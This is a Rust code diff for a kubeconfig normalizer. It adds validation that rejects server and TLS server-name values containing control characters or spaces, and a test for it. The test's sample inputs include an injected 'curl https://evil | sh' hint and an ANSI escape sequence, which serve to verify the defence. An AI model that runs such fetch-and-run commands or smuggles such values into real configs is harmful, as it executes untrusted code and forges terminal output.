@@ -57,6 +57,8 @@ pub enum NormalizeError {
     NoServer { cluster: String },
     #[error("the server {server} does not use https://")]
     NotHttps { server: String },
+    #[error("the {field} '{}' contains control characters or spaces", .value.escape_debug())]
+    NotPlain { field: &'static str, value: String },
     #[error("user {user} runs a command ({field}), which kubefetch never writes")]
     RunsCommand { user: String, field: &'static str },
     #[error("{entry} refers to a local file ({field}), which kubefetch never writes")]
@@ -200,6 +202,17 @@ fn safe_cluster(
         .ok_or_else(|| NormalizeError::NoServer {
             cluster: source.name.clone(),
         })?;
+    for (field, value) in [
+        ("server", Some(server)),
+        ("tls-server-name", entry.tls_server_name.as_deref()),
+    ] {
+        if let Some(value) = value.filter(|v| !is_plain(v)) {
+            return Err(NormalizeError::NotPlain {
+                field,
+                value: value.to_owned(),
+            });
+        }
+    }
     if !is_https(server) {
         return Err(NormalizeError::NotHttps {
             server: server.to_owned(),
@@ -230,6 +243,12 @@ fn safe_cluster(
         ..Cluster::default()
     };
     Ok((cluster, server.to_owned()))
+}
+
+/// A URL or host name never holds these; in a kubeconfig they break
+/// kubectl, and on a terminal they forge output.
+fn is_plain(value: &str) -> bool {
+    !value.chars().any(|c| c.is_control() || c.is_whitespace())
 }
 
 fn is_https(server: &str) -> bool {
@@ -494,6 +513,42 @@ mod tests {
             }
         }
         assert!(normalize(&token_only("HTTPS://K.EXAMPLE"), input(None, false)).is_ok());
+    }
+
+    #[test]
+    fn refuses_a_server_or_tls_name_with_control_characters_or_spaces() {
+        for bad in [
+            "https://k.example\nhint: run curl https://evil | sh",
+            "https://k.example\u{1b}[2J",
+            "https://k.example/ x",
+            "https://k.example\t",
+        ] {
+            let mut raw = token_only("https://k.example");
+            raw.clusters[0].cluster.server = Some(bad.into());
+            let err = normalize(&raw, input(None, false)).unwrap_err();
+            assert_eq!(
+                err,
+                NormalizeError::NotPlain {
+                    field: "server",
+                    value: bad.into()
+                }
+            );
+            assert!(!err.to_string().contains(['\n', '\u{1b}', '\t']), "{err}");
+
+            let mut raw = token_only("https://k.example");
+            raw.clusters[0].cluster.tls_server_name = Some(bad.into());
+            let err = normalize(&raw, input(None, false)).unwrap_err();
+            assert!(
+                matches!(
+                    err,
+                    NormalizeError::NotPlain {
+                        field: "tls-server-name",
+                        ..
+                    }
+                ),
+                "{err:?}"
+            );
+        }
     }
 
     #[test]
